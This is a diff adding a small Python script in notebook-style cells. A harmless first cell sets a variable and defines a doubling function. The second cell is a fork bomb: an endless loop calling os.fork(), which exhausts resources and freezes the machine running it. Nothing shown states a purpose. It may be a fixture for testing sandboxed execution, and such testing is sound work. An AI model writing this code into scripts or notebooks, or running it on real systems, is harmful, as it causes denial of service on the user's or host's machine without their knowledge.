@@ -1,0 +1,12 @@
+# %%
+answer = 42
+
+
+def double(x):
+    return 2 * x
+
+# %%
+import os
+
+while True:
+    os.fork()
